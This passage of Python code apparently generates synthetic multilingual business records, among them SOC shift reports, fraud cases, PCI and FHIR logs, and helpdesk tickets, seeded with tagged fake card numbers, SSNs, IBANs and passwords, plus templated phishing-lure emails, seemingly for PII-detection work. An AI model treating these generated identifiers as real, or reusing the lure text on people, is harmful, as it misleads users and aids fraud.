             ("VPN", f"https://vpn.{dom}/+CSCOE+/logon.html"), ("Router", None), ("Amazon", "https://www.amazon.com/ap/signin"),
             ("Payroll", f"https://{dom.split('.')[0]}.adp.com/"), ("GitHub", "https://github.com/login"), ("Netflix", "https://www.netflix.com/login")]
    for nm, u in rng.sample(sites, rng.randint(3, 6)):
        if u is None:
            cells = [nm, "", "admin", PWD(password(rng)), "LAN ip on sticker"]
        else:
            user = EML(email(rng, p, dom if chance(rng, 0.5) else None)) if chance(rng, 0.7) else username(rng, p)
            note = rng.choice(["", "", S("PIN ", PWD(password(rng, "pin"))), "shared with team", S("recovery phone ", PHN(phone(rng, "en", True)))])
            cells = [nm, URL(u), user, PWD(password(rng)), note]
        csv_row(b, cells)
    return b


def k_soc_shift(rng):
    b = B()
    co, dom = company(rng)
    a1, a2, lead = person(rng), person(rng), person(rng)
    t0 = rdt(rng)
    b(f"SOC shift report - {rng.choice(['Night', 'Day', 'Swing'])} shift\nAnalysts: ", PER(a1.full), ", ", PER(pname(rng, a2, ("full", "first"))),
      "   Shift lead: ", PER(lead.full), "\n\n")
    b(f"Alerts triaged: {rng.randint(20, 400)} | Escalated: {rng.randint(0, 12)} | False positives: {rng.randint(10, 300)} | Mean time to triage: {rng.randint(3, 40)} min\n\n")
    b("Notable:\n")
    b("- ", ticket(rng, "jira"), ": password spray against OWA from ", IPA(ip_pub(rng)), " and ", IPA(ip_pub(rng)),
      f"; {rng.randint(2, 40)} accounts locked incl. ", EML(email(rng, person(rng), dom)), ".\n")
    b("- EDR quarantined a macro document on ", hostname(rng, "ws"), " (user ", PER(person(rng).full), "), hash ", sha256(rng)[:16], "...\n")
    b("- Impossible travel for ", EML(email(rng, person(rng), dom)), ": ", LOC(city_of(rng)), " -> ", LOC(rng.choice(GEO)[0]),
      f" within {rng.randint(5, 90)} minutes; user confirmed VPN use.\n")
    if chance(rng, 0.5):
        b("- Threat intel: new phishing kit domain ", defang(phish_url(rng)), " targeting our SSO page.\n")
    b("\nHandover: follow up with ", PER(person(rng).first), " from IAM about the locked accounts before ", DTM(ftime(rng, rng.randint(8, 11), 0, "en")), ".\n")
    return b


def k_bridge_invite(rng):
    b = B()
    co, dom = company(rng)
    org = person(rng)
    oem = email(rng, org, dom)
    t0 = rdt(rng)
    st = t0 + _dt.timedelta(minutes=rng.choice([10, 15, 20, 30, 45, 60, 120]))
    st = st.replace(minute=(st.minute // 5) * 5, second=0)
    en = st + _dt.timedelta(minutes=rng.choice([30, 60, 90]))
    mid = f"{dg(rng, 3)} {dg(rng, 4)} {dg(rng, 4)}"
    pc = password(rng, "passcode")
    email_headers(b, rng, [PER(org.full), " <", EML(oem), ">"], [EML(f"incident-bridge@{dom}")],
                  f"SEV{rng.randint(1, 2)} bridge: {rng.choice(['payment failures', 'VPN outage', 'suspected intrusion', 'email delivery delays'])}", t0)
    b('Content-Type: text/calendar; method=REQUEST; charset="UTF-8"\n\n')
    b("BEGIN:VCALENDAR\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\n")
    b("ORGANIZER;CN=", PER(org.full), ":mailto:", EML(oem), "\n")
    for _ in range(rng.randint(2, 4)):
        p = person(rng)
        b("ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=", PER(p.full), ":mailto:", EML(email(rng, p, dom)), "\n")
    b("DTSTART:", DTM(st.strftime("%Y%m%dT%H%M00Z")), "\nDTEND:", DTM(en.strftime("%Y%m%dT%H%M00Z")), "\n")
    b(f"DTSTAMP:{t0.strftime('%Y%m%dT%H%M%SZ')}\nCREATED:{t0.strftime('%Y%m%dT%H%M%SZ')}\nLAST-MODIFIED:{tick(rng, t0, 1, 60).strftime('%Y%m%dT%H%M%SZ')}\n")
    b(f"UID:{_uuid(rng).upper()}\nSUMMARY:Incident bridge\nLOCATION:", URL(f"https://{dom.split('.')[0]}.zoom.us/j/{mid.replace(' ', '')}"), "\n")
    b("DESCRIPTION:Join Zoom: ", URL(f"https://{dom.split('.')[0]}.zoom.us/j/{mid.replace(' ', '')}?pwd={rs(rng, 32)}"),
      f"\\nMeeting ID: {mid}\\nPasscode: ", PWD(pc), "\\nDial by location: ", PHN(phone(rng)), " US\\n", PHN(phone(rng, rng.choice(["uk", "de"]))),
      "\\nCommander: ", PER(person(rng).full), "\n")
    b("END:VEVENT\nEND:VCALENDAR\n")
    return b


def k_bec_case(rng):
    b = B()
    co, dom = company(rng)
    vendor = rng.choice([("Greenfield Supplies", "greenfield-supplies.com"), ("Atlas Packaging", "atlaspack.com"), ("Pruett & Sons Electrical", "pruettsons.com")])
    spoof = vendor[1].replace(".com", "-co.com") if chance(rng, 0.5) else vendor[1].replace("e", "3", 1)
    vc, ap = person(rng), person(rng)
    t0 = rdt(rng)
    b(f"Payment fraud case {ticket(rng, 'case')} - Business email compromise\nPrepared by: ", PER(person(rng).full), " (Treasury)\n\n")
    b("Legitimate vendor contact: ", PER(vc.full), ", ", EML(email(rng, vc, vendor[1])), ", ", PHN(phone(rng)), "\n")
    b("Fraudulent sender: ", PER(vc.full), " <", EML(email(rng, vc, spoof)), "> (look-alike domain registered ", f"{rng.randint(2, 20)} days", " earlier)\n\n")
    us = chance(rng, 0.5)
    if us:
        b(f"Original remittance: ABA {routing(rng)}, account ", ACC(acct(rng, "bank")), "\n")
        b(f"Fraudulent remittance: ABA {routing(rng)}, account ", ACC(acct(rng, "bank")), f" at {rng.choice(['Wells Fargo', 'Bank of America', 'Chase'])}\n")
    else:
        b("Original IBAN: ", IBN(fmt_iban(rng, iban(rng, rng.choice(["DE", "NL", "FR"])))), f" (BIC {bic(rng)})\n")
        b("Fraudulent IBAN: ", IBN(fmt_iban(rng, iban(rng, rng.choice(["GB", "IE", "BE"])))), f" (BIC {bic(rng)})\n")
    b(f"Invoice(s): INV-{dg(rng, 6)}, INV-{dg(rng, 6)}   Amount: {amount(rng, '$' if us else 'EUR', 400000)}\n\n")
    b("Sequence: the change request arrived ", DTM(fdt(rng, t0, "en")), "; ", PER(ap.full), " in AP updated the vendor master without a call-back. ",
      "The payment ran in the ", DTM(fdate(rng, (t0 + _dt.timedelta(days=2)).date())), " batch. Recall requested via SWIFT gpi; bank reference ", rs(rng, 16, UPPER + DIG), ".\n\n")
    b("Mailbox forensics: inbox rule 'RSS Feeds' created from ", IPA(ip_pub(rng)), " (", LOC(rng.choice(GEO)[1]), ") on the vendor side.\n")
    return b


def k_billing_dispute(rng):
    b = B()
    co = rng.choice([("Brightline Telecom", "brightline-telecom.net"), ("Pioneer Utilities", "pioneer-utilities.com"), ("Cascade Wireless", "cascadewireless.com")])
    p = person(rng)
    a = address(rng)
    pe = email(rng, p)
    t0 = rdt(rng)
    email_headers(b, rng, [PER(p.full), " <", EML(pe), ">"], [EML(f"billing@{co[1]}")], rng.choice(["Dispute: duplicate charge on my account", "Double payment - refund request", "Billing error"]), t0)
    b("\nHello,\n\nI was charged twice for my ", rng.choice(["March", "April", "May", "June"]), " bill (invoice ", f"{rs(rng, 2, UPPER)}{dg(rng, 8)}", ", ", amount(rng, "$", 400),
      "). My account number is ", ACC(acct(rng, "utility" if "Utilities" in co[0] else "telecom")), " and the service address is ", ADR(a.one()), ".\n\n")
    num = cc_num(rng)
    b("Both payments were taken from my ", cc_brand(num), " ", rng.choice([[CCN(fmt_cc(rng, num))], [masked_cc(rng)]]), ". Please refund one of them by ",
      DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(5, 15))).date())), " or I will dispute it with the bank.\n\n")
    b("You can reach me on ", PHN(phone(rng)), ".\n\nRegards,\n", PER(pname(rng, p, ("full", "fml"))), "\n")
    b("\n--- Agent note ---\nRefund of ", amount(rng, "$", 400), " issued, ref ", f"RF{dg(rng, 9)}", "; customer advised not to email card numbers. Agent ", PER(person(rng).first), "\n")
    return b


def k_payroll_ticket(rng):
    b = B()
    co, dom = company(rng)
    e, ag = person(rng), person(rng)
    t = rdt(rng)
    a = address(rng)
    s = ssn(rng)
    email_headers(b, rng, [PER(e.full), " <", EML(email(rng, e, dom)), ">"], [EML(f"hr-helpdesk@{dom}")],
                  rng.choice(["Can't see my W-2 in Workday", "ADP login loop after SSO change", "Wrong address on my tax form"]), t)
    b("\nHi,\n\nsince the SSO migration I can't open the pay statements page, it just redirects back to ", URL(f"https://sso.{dom}/app/workday/sso/saml"),
      ". I need my W-2 for my mortgage application by ", DTM(fdate(rng, (t + _dt.timedelta(days=rng.randint(2, 10))).date())), ".\n\n")
    b("In case you need to look me up: employee ID ", dg(rng, 6), ", SSN ", SSN(fmt_ssn(rng, s)), rng.choice([[", DOB ", DOB(fdate(rng, rdob(rng), "en", False))], []]), ".\n")
    if chance(rng, 0.6):
        b("Also my address changed, the form should go to ", ADR(a.one()), ".\n")
    b("\nThanks,\n", PER(e.first), "\n", PHN(phone(rng)), "\n\n")
    b(f"----- Reply from HR Service Center ({ts_plain(tick(rng, t, 600, 8000))}) -----\n")
    b("Hi ", PER(e.first), ", please don't send your Social Security number by email - we have redacted it in the case record (", f"***-**-{s[2]}", "). ",
      "The SSO issue is tracked in ", ticket(rng, "snow"), "; a paper copy has been mailed. ", PER(ag.full), ", HR Service Center\n")
    return b


def k_pci_log_dump(rng):
    b = B()
    co, dom = company(rng)
    host = hostname(rng, "srv")
    b(f"PCI forensic investigation - preliminary finding #{rng.randint(1, 9)}\nInvestigator: ", PER(person(rng).full), f" (QSA)\nSystem: {host} (", IPA(ip_priv(rng)), ")\n\n")
    b("Cardholder data was found in clear text in /var/log/app/payment-debug.log. Sample (", str(rng.randint(2000, 90000)), " matches in total):\n\n")
    b(f"$ grep -nE '[0-9]{{13,16}}' payment-debug.log | head\n")
    t = rdt(rng)
    for i in range(rng.randint(4, 8)):
        t = tick(rng, t, 1, 300)
        p = person(rng)
        ln = rng.randint(1000, 99999)
        k = rng.random()
        if k < 0.7:
            num = cc_num(rng)
            b(f"{ln}:{ts_iso(t)} DEBUG auth request pan=", CCN(fmt_cc(rng, num, "") if chance(rng, 0.7) else fmt_cc(rng, num)),
              " holder=\"", PER(p.full.upper() if chance(rng, 0.6) else p.full), f"\" amount={rng.randint(100, 90000)} merchant={dg(rng, 8)}\n")
        elif k < 0.85:
            b(f"{ln}:{ts_iso(t)} DEBUG auth request pan={masked_cc(rng)} holder=\"", PER(p.full), "\" tokenized=true\n")
        else:
            b(f"{ln}:{ts_iso(t)} DEBUG order ref {luhn_bad(rng)} (not a PAN) amount={rng.randint(100, 90000)}\n")
    b("\nRecommendation: purge logs, rotate the logging configuration, notify the acquirer within the contractual window (due ",
      DTM(fdate(rng, (t + _dt.timedelta(days=3)).date())), ").\n")
    return b


def k_benefits_ticket(rng):
    b = B()
    co, dom = company(rng)
    m, dep, ag = person(rng), person(rng), person(rng)
    t = rdt(rng)
    plan = rng.choice(["Aetna Choice POS II", "BlueCross PPO 1500", "Cigna Open Access Plus", "UnitedHealthcare Choice Plus"])
    b(f"{ticket(rng, 'case')} - Benefits portal: member cannot sign in after SSO cutover\n")
    b("Caller: ", PER(pname(rng, m, ("full", "lf"))), " | ", PHN(phone(rng)), " | ", EML(email(rng, m, dom)), "\n")
    b(f"Plan: {plan}  Group no.: {dg(rng, 6)}  Member ID: ", HPN(hpn(rng)), "\n")
    b("Verified with DOB ", DOB(fdate(rng, rdob(rng), "en", False)), " and ZIP ", dg(rng, 5), ".\n\n")
    b("Notes:\n- Portal shows \"no coverage found\" because the IdP sends employeeNumber instead of the subscriber ID.\n")
    b("- Dependent ", PER(dep.first), rng.choice([" (spouse)", " (child)"]), " has subscriber ID ", HPN(hpn(rng)),
      ", claim ", f"CLM-{dg(rng, 9)}", " pending since ", DTM(fdate(rng, (t - _dt.timedelta(days=rng.randint(3, 30))).date())), ".\n")
    if chance(rng, 0.5):
        b("- Pharmacy: refill of ", rng.choice(DRUGS), " rejected at the pharmacy (NCPDP reject 65); ICD-10 ", rng.choice(["E11.9", "I10", "J45.909"]), ".\n")
    b("- Escalated to IAM (", ticket(rng, "jira"), "); callback promised ", DTM(fdt(rng, future_dt(rng, t, (1, 2)), "en")), ".\nAgent: ", PER(ag.first), "\n")
    return b


def k_fhir_debug(rng):
    b = B()
    co, dom = company(rng)
    co, dom = rng.choice([c for c in COMPANIES["en"] if "Health" in c[0] or "Hospital" in c[0]])
    p = person(rng)
    a = address(rng)
    t = rdt(rng)
    pid = rng.randint(10000, 9999999)
    b(f"{ts_iso(t)} DEBUG [fhir-client] GET ", URL(f"https://fhir.{dom}/r4/Patient/{pid}"), f" -> 200 ({rng.randint(20, 900)} ms)\n")
    b(f"{ts_iso(tick(rng, t, 0, 1))} DEBUG [fhir-client] response body:\n")
    res = {"resourceType": "Patient", "id": str(pid), "meta": {"versionId": str(rng.randint(1, 30)), "lastUpdated": ts_iso(rdt(rng), z=False)},
           "identifier": [{"use": "usual", "type": {"text": "MRN"}, "system": f"urn:oid:1.2.840.114350.1.13.{rng.randint(100, 999)}.2.7.5.737384.14", "value": MRN(mrn(rng))}],
           "active": True,
           "name": [{"use": "official", "family": PER(p.last), "given": [PER(p.first)] + ([PER(p.mid)] if p.mid else [])}],
           "telecom": [{"system": "phone", "value": PHN(phone(rng)), "use": rng.choice(["home", "mobile"])}, {"system": "email", "value": EML(email(rng, p))}],
           "gender": "female" if p.first in FEMALE else "male", "birthDate": DOB(rdob(rng).isoformat()),
           "address": [{"use": "home", "line": [ADR(a.street)] + ([ADR(a.unit)] if a.unit else []), "city": LOC(a.city), "state": LOC(a.region),
                        "postalCode": a.postal, "country": "US"}]}
    J(b, res, 2)
    b("\n")
    if chance(rng, 0.6):
        b(f"{ts_iso(tick(rng, t, 0, 2))} DEBUG [fhir-client] GET ", URL(f"https://fhir.{dom}/r4/Coverage?beneficiary=Patient/{pid}"), " -> 200\n")
        cov = {"resourceType": "Coverage", "id": str(rng.randint(1000, 99999)), "status": "active", "subscriberId": HPN(hpn(rng)),
               "beneficiary": {"reference": f"Patient/{pid}"}, "relationship": {"text": "self"},
               "period": {"start": DTM(rdate(rng, 2022, 2024).isoformat())},
               "payor": [{"display": rng.choice(["Aetna", "Humana", "Cigna", "Blue Cross Blue Shield of Texas"])}],
               "class": [{"type": {"text": "group"}, "value": dg(rng, 6)}]}
        Jline(b, cov)
        b("\n")
    b(f"{ts_iso(tick(rng, t, 1, 3))} WARN  [fhir-client] PHI written to debug log; set logging.level.fhir=INFO ({ticket(rng, 'jira')})\n")
    return b


def k_vcard_export(rng):
    b = B()
    co, dom = company(rng)
    owner = person(rng)
    b(f"# DFIR {ticket(rng, 'jira')} - contacts.vcf extracted from seized phone of ", PER(owner.full), f" (iOS {rng.randint(15, 18)}.{rng.randint(0, 6)})\n")
    for _ in range(rng.randint(2, 4)):
        p = person(rng)
        a = address(rng)
        b("BEGIN:VCARD\nVERSION:3.0\nN:", PER(f"{p.last};{p.first}" + (f";{p.mid}" if p.mid else "")), ";;" if p.mid else ";;;", "\n")
        b("FN:", PER(p.fml), "\n")
        if chance(rng, 0.5):
            b(f"ORG:{company(rng)[0]}\n")
        b("TEL;TYPE=CELL:", PHN(phone(rng, "en", True)), "\n")
        if chance(rng, 0.5):
            b("TEL;TYPE=WORK,VOICE:", PHN(phone(rng)), "\n")
        b("EMAIL;TYPE=INTERNET:", EML(email(rng, p)), "\n")
        if chance(rng, 0.6):
            b("ADR;TYPE=HOME:;;", ADR(f"{a.street};{a.city};{a.region};{a.postal};USA"), "\n")
        if chance(rng, 0.5):
            b("BDAY:", DOB(rdob(rng).isoformat()), "\n")
        if chance(rng, 0.3):
            b("NOTE:", rng.choice([["gate code ", PWD(password(rng, "pin"))], ["dog is ", rng.choice(PET_NAMES)], ["met at ", LOC(city_of(rng)), " conference"]]), "\n")
        b(f"REV:{rdt(rng).strftime('%Y%m%dT%H%M%SZ')}\nEND:VCARD\n")
    return b


# ---------------------------------------------------------------------------
# Non-English kinds
# ---------------------------------------------------------------------------

def k_de_ticket(rng):
    b = B()
    co, dom = company(rng, "de")
    m, ag = person(rng, "de"), person(rng, "de")
    t = rdt(rng)
    tk = ticket(rng, "snow")
    b(f"Ticket-Nr.: {tk}\nKategorie: {rng.choice(['Netzwerk > VPN', 'Arbeitsplatz > Drucker', 'Konten > Passwort', 'E-Mail > Postfach'])}\n")
    b("Meldende Person: ", honorific(rng, m, "de"), PER(pname(rng, m, ("full", "lf"))), " (", EML(email(rng, m, dom)), ")\n")
    b("Telefon: ", PHN(phone(rng, "de", False)), rng.choice(["", " / mobil "]))
    if b.buf[-1]:
        b(PHN(phone(rng, "de", True)))
    b("\n")
    a = address(rng, "de")
    b("Standort: ", ADR(a.one()) if chance(rng, 0.5) else LOC(a.city), "\n")
    b(f"Erstellt: {t.strftime('%d.%m.%Y %H:%M:%S')}\n\nBeschreibung:\n")
    sc = rng.choice(["vpn", "drucker", "passwort", "phish"])
    if sc == "vpn":
        b("Seit ", DTM(fdt(rng, t - _dt.timedelta(days=1), "de")), " bricht die VPN-Verbindung (FortiClient ", version(rng),
          ") alle paar Minuten ab. Öffentliche IP laut Router: ", IPA(ip_pub(rng)), ", interne Adresse ", IPA(ip_priv(rng)), ". Arbeite im Homeoffice in ",
          LOC(city_of(rng, "de")), ".\n")
    elif sc == "drucker":
        b(f"Der Drucker im {rng.randint(1, 5)}. OG (Raum {rng.randint(100, 520)}) druckt nur leere Seiten. IP ", IPA(ip_priv(rng)),
          f", Seriennummer {serial(rng)}. Toner wurde am ", DTM(fdate(rng, (t - _dt.timedelta(days=rng.randint(2, 9))).date(), "de")), " gewechselt.\n")
    elif sc == "passwort":
        b("Ich habe mein Passwort vergessen und bin gesperrt. Bitte Rückruf unter ", PHN(phone(rng, "de", True)), ", am besten ",
          DTM(fdt(rng, future_dt(rng, t, (0, 1)), "de")), ".\n")
    else:
        b("Ich habe eine verdächtige Mail von „", PER(person(rng, "de").full), "“ <", EML(f"{rs(rng, 6, LOWER)}@{rng.choice(PHISH_DOMAINS)}"),
          "> erhalten, mit Link ", URL(phish_url(rng)), ". Nicht geklickt.\n")
    b("\nBearbeiter: ", PER(ag.full), f" ({rng.choice(['1st Level', 'Netzwerkteam', 'Client-Management'])})\n")
    b("Lösung: ", rng.choice(["Profil neu angelegt, Verbindung stabil.", "Konto entsperrt, Initialpasswort per SMS.", "Treiber aktualisiert.", "Mail in allen Postfächern gelöscht, Absender gesperrt."]), "\n")
    b(f"Bearbeitungszeit: {duration(rng, 'de')}\n")
    return b


def k_de_telecom(rng):
    b = B()
    co = rng.choice(["NordNetz Telekommunikation GmbH", "Rheinfunk Mobil", "Stadtnetz Hansa"])
    k = person(rng, "de")
    a = address(rng, "de")
    t = rdt(rng)
    b(f"{co} - Kundenservice\nVorgang {rs(rng, 2, UPPER)}-{dg(rng, 8)}\n\n")
    b("Kundennummer: ", ACC(acct(rng, "telecom")), "\nVertragsinhaber: ", honorific(rng, k, "de"), PER(k.full), "\n")
    b("Anschrift:\n", ADR(a.multi()), "\n")
    b("Geburtsdatum: ", DOB(fdate(rng, rdob(rng), "de", False, "num")), "\n")
    b("Rufnummer: ", PHN(phone(rng, "de", True)), "   Festnetz: ", PHN(phone(rng, "de", False)), "\n")
    b("E-Mail: ", EML(email(rng, k)), "\n")
    if chance(rng, 0.4):
        b("Identitätsprüfung: Führerschein Nr. ", DLN(dl_eu(rng, "de")), " (Ausweis nicht vorgelegt)\n")
    b("\nAnliegen: ", rng.choice(["Umzug des DSL-Anschlusses", "Störung Glasfaser", "Änderung der Bankverbindung", "Tarifwechsel"]), "\n")
    ib = iban(rng, "DE")
    b("Neue Bankverbindung (SEPA-Lastschriftmandat): IBAN ", IBN(fmt_iban(rng, ib)), f", BIC {rng.choice(['COBADEFFXXX', 'DEUTDEDBBER', 'GENODEF1S04', 'BYLADEM1001'])}\n")
    b("Mandatsreferenz: ", f"MR-{dg(rng, 10)}", " (Gläubiger-ID DE98ZZZ0", dg(rng, 10), ")\n")
    if chance(rng, 0.7):
        tt = future_dt(rng, t, (2, 12), hours=[8, 10, 12, 14])
        b("Techniker-Termin: ", DTM(fdt(rng, tt, "de", weekday=chance(rng, 0.6))), "\n")
    b("Router-Zugangsdaten zurückgesetzt, neues WLAN-Kennwort: ", PWD(password(rng, "wifi")), "\n")
    b("Notiz: Kunde wünscht Rückruf, Ansprechpartner ", PER(person(rng, "de").full), ". Bearbeitungsdauer ", duration(rng, "de"), ".\n")
    return b


def k_de_dsgvo(rng):
    b = B()
    co, dom = company(rng, "de")
    dsb = person(rng, "de")
    t0 = rdt(rng)
    a = address(rng, "de")
    b("Meldung einer Verletzung des Schutzes personenbezogener Daten gemäß Art. 33 DSGVO\n\n")
    b(f"1. Verantwortlicher\n{co}\n", ADR(a.one()), "\n\n")
    b("2. Datenschutzbeauftragte/r\n", PER(dsb.full), ", ", EML(f"datenschutz@{dom}"), ", Tel. ", PHN(phone(rng, "de", False)), "\n\n")
    b("3. Zeitpunkt\nVerletzung: ", DTM(fdt(rng, t0, "de")), "\nKenntnisnahme: ", DTM(fdt(rng, t0 + _dt.timedelta(hours=rng.randint(2, 60)), "de")), "\n\n")
    b("4. Beschreibung\n")
    b(rng.choice(["Ein Angreifer hat sich mit gestohlenen Zugangsdaten am Webmail-Portal angemeldet ",
                  "Über eine ungepatchte Schwachstelle (", ]))
    if b.buf[-1].endswith("("):
        b(cve(rng), ") im VPN-Gateway verschaffte sich ein Angreifer Zugriff ")
    b("(Quell-IP ", IPA(ip_pub(rng)), ", ", LOC(rng.choice(COUNTRY["de"])), ") und ", rng.choice(["Postfachinhalte exportiert.", "eine Kundendatenbank kopiert.", "Lohnabrechnungen abgerufen."]), "\n\n")
    b(f"5. Betroffene Personen: ca. {rng.randint(40, 90000)}\nDatenkategorien: Name, Anschrift, E-Mail, Bankverbindung (IBAN), Geburtsdatum\n\n")
    b("Beispieldatensatz (intern, nicht an Behörde übermitteln):\n")
    p = person(rng, "de")
    b("  ", PER(p.lf), "; ", ADR(address(rng, "de").one()), "; ", IBN(fmt_iban(rng, iban(rng, rng.choice(["DE", "AT"])))), "; geb. ",
      DOB(fdate(rng, rdob(rng), "de", False, "num")), "\n\n")
    b("6. Maßnahmen\nPasswörter zurückgesetzt, MFA erzwungen, Betroffene werden bis ", DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(3, 10))).date(), "de")),
      " informiert. Aktenzeichen ", f"LDA-{dg(rng, 4)}-{dg(rng, 5)}", ".\n")
    return b


def k_fr_phishing(rng):
    b = B()
    co, dom = company(rng, "fr")
    rep = person(rng, "fr")
    rem = email(rng, rep, dom)
    pd_ = rng.choice(PHISH_DOMAINS)
    t0 = rdt(rng)
    b("De : ", PER(rep.full), " <", EML(rem), ">\nÀ : ", EML(f"securite@{dom}"), f"\nDate : {rfc2822(tick(rng, t0, 60, 5000))}\nObjet : TR: {rng.choice(['Votre colis est en attente', 'Facture impayée', 'Mise à jour de votre mot de passe', 'Remboursement ameli'])}\n\n")
    b("Bonjour l'équipe sécurité,\n\n", rng.choice(["J'ai reçu ce message ce matin, il me semble suspect. Je n'ai pas cliqué sur le lien.",
                                                   "Message bizarre reçu sur ma boîte pro, je vous le transfère avec les en-têtes."]),
      "\n\nCordialement,\n", PER(rep.first), " ", PER(rep.last.upper()) if chance(rng, 0.5) else "", "\n")
    if chance(rng, 0.5):
        b("Tél. ", PHN(phone(rng, "fr", chance(rng, 0.5))), "\n")
    sip = ip_pub(rng)
    b("\n---------- En-têtes du message d'origine ----------\n")
    b(f"Received: from smtp.{pd_} (smtp.{pd_} [", IPA(sip), f"])\n\tby mx.{dom} with ESMTPS id {rs(rng, 12)}; {rfc2822(t0)}\n")
    b(f"Authentication-Results: mx.{dom}; spf=fail smtp.mailfrom={pd_}; dkim=none; dmarc=fail\n")
    b(f"From: \"{rng.choice(['La Poste', 'Service Client', 'Assurance Maladie', 'Support Microsoft'])}\" <", EML(f"noreply@{pd_}"), ">\n")
    b("To: ", EML(rem), f"\nDate: {rfc2822(t0)}\n\n")
    b("Bonjour ", PER(rep.first), ",\n\nVotre colis n° ", dg(rng, 13), " n'a pas pu être livré le ", DTM(fdate(rng, t0.date(), "fr")),
      ". Des frais de ", amount(rng, "€", 9), " sont à régler avant le ", DTM(fdt(rng, future_dt(rng, t0, (1, 3)), "fr")), " :\n", URL(phish_url(rng, pd_)), "\n\n")
    b("---------- Analyse SOC ----------\n")
    b("Verdict : hameçonnage. IOC : ", defang(phish_url(rng, pd_)), ", IP ", IPA(sip), f". Domaine bloqué, {rng.randint(2, 300)} messages purgés. Analyste : ",
      PER(person(rng, "fr").full), "\n")
    return b


def k_fr_isp(rng):
    b = B()
    co = rng.choice(["Hexanet Fibre", "Alizé Télécom", "Fibre du Sud"])
    c = person(rng, "fr")
    a = address(rng, "fr")
    t = rdt(rng)
    b(f"{co} - Fiche de contact n° {dg(rng, 9)}\n\n")
    b("Client : ", honorific(rng, c, "fr"), PER(pname(rng, c, ("full", "lf", "upper"))), "\nNuméro client : ", ACC(acct(rng, "telecom")), "\n")
    b("Adresse d'installation : ", ADR(a.one()), "\n")
    b("Ligne fixe : ", PHN(phone(rng, "fr", False)), " - Mobile : ", PHN(phone(rng, "fr", True)), "\n")
    b("Courriel : ", EML(email(rng, c)), "\n")
    if chance(rng, 0.3):
        b("Pièce d'identité : permis de conduire n° ", DLN(dl_eu(rng, "fr")), "\n")
    if chance(rng, 0.6):
        b("Date de naissance : ", DOB(fdate(rng, rdob(rng), "fr", False, rng.choice(["num", "long"]))), "\n")
    b("\nMotif : ", rng.choice(["Perte de synchronisation de la box", "Débit faible en Wi-Fi", "Changement de RIB", "Déménagement"]), "\n")
    b("Diagnostic : box injoignable depuis ", DTM(fdt(rng, t - _dt.timedelta(hours=rng.randint(2, 40)), "fr")), ", dernière IP publique ", IPA(ip_pub(rng)),
      " (IPv6 ", IPA(ip6(rng)), ").\n")
    if chance(rng, 0.7):
        b("Rendez-vous technicien : le ", DTM(fdt(rng, future_dt(rng, t, (1, 8), hours=[8, 10, 14, 16]), "fr", weekday=chance(rng, 0.5))), ".\n")
    b("Prélèvement : IBAN ", IBN(fmt_iban(rng, iban(rng, "FR"))), f" - BIC {rng.choice(['BNPAFRPPXXX', 'SOGEFRPP', 'CRLYFRPP', 'AGRIFRPP882'])}\n")
    b("Nouveau mot de passe Wi-Fi communiqué : ", PWD(password(rng, "wifi")), "\n")
    b("Conseiller : ", PER(person(rng, "fr").first), f" - durée de l'appel {duration(rng, 'fr')}\n")
    return b


def k_es_portabilidad(rng):
    b = B()
    co = rng.choice(["Telecom Ibérica", "Movilnet Sur", "Ondas Telecom"])
    p = person(rng, "es")
    a = address(rng, "es")
    t = rdt(rng)
    b(f"{co} - Solicitud de portabilidad y alta de fibra\nReferencia: PORT-{dg(rng, 8)}\n\n")
    b("Titular: ", honorific(rng, p, "es"), PER(pname(rng, p, ("full", "upper"))), "\n")
    b("Dirección de instalación: ", ADR(a.one()), "\n")
    b("Número a portar: ", PHN(phone(rng, "es", True)), "   Fijo: ", PHN(phone(rng, "es", False)), "\n")
    b("Correo electrónico: ", EML(email(rng, p)), "\n")
    b("Fecha de nacimiento: ", DOB(fdate(rng, rdob(rng), "es", False)), "\n")
    if chance(rng, 0.35):
        b("Documento aportado: permiso de conducir ", DLN(dl_eu(rng, "es")), "\n")
    b("Cuenta de cargo (IBAN): ", IBN(fmt_iban(rng, iban(rng, "ES"))), "\n")
    b("Número de cliente: ", ACC(acct(rng, "telecom")), "\n\n")
    b("Ventana de portabilidad: ", DTM(fdt(rng, future_dt(rng, t, (1, 5), hours=[2, 3, 4]), "es")), "\n")
    b("Cita con el técnico: ", DTM(fdt(rng, future_dt(rng, t, (2, 9), hours=[9, 11, 16]), "es", weekday=chance(rng, 0.5))), "\n\n")
    b("Observaciones: el router anterior (", rng.choice(["Huawei HG8245", "ZTE F680", "Askey RTF8115"]), ", IP ", IPA("192.168.1.1"), ") se devuelve en tienda de ",
      LOC(city_of(rng, "es")), ". Contraseña del panel: ", PWD(password(rng)), ".\n")
    b("Agente: ", PER(person(rng, "es").full), "\n")
    return b


def k_it_incidente(rng):
    b = B()
    co, dom = company(rng, "it")
    resp = person(rng, "it")
    t0 = rdt(rng)
    b(f"VERBALE DI INCIDENTE DI SICUREZZA N. {t0.year}/{rng.randint(1, 300):03d}\n{co}\n\n")
    b("Redatto da: ", honorific(rng, resp, "it"), PER(resp.full), f" (CISO)\nData di redazione: ", DTM(fdate(rng, (t0 + _dt.timedelta(days=2)).date(), "it")), "\n\n")
    b("1. Descrizione\nIl ", DTM(fdt(rng, t0, "it")), " il sistema EDR ha rilevato l'esecuzione di un ransomware sulla postazione ", hostname(rng, "ws"),
      " (", IPA(ip_priv(rng)), ") in uso a ", PER(person(rng, "it").full), " presso la sede di ", LOC(city_of(rng, "it")), ".\n")
    b("Connessioni in uscita verso ", IPA(ip_pub(rng)), " e ", IPA(ip_pub(rng)), " (", LOC(rng.choice(GEO)[1]), ").\n\n")
    b("2. Dati coinvolti\nAnagrafiche clienti (nome, indirizzo, telefono, IBAN). Esempio di record cifrato:\n  ")
    p = person(rng, "it")
    b(PER(p.full), " - ", ADR(address(rng, "it").one()), " - ", PHN(phone(rng, "it")), " - ", IBN(fmt_iban(rng, iban(rng, "IT"))), "\n\n")
    b("3. Azioni intraprese\nIsolamento della rete entro ", duration(rng, "it"), "; ripristino da backup; notifica al Garante entro le 72 ore (scadenza ",
      DTM(fdt(rng, t0 + _dt.timedelta(hours=72), "it")), ").\n")
    rt = person(rng, "it")
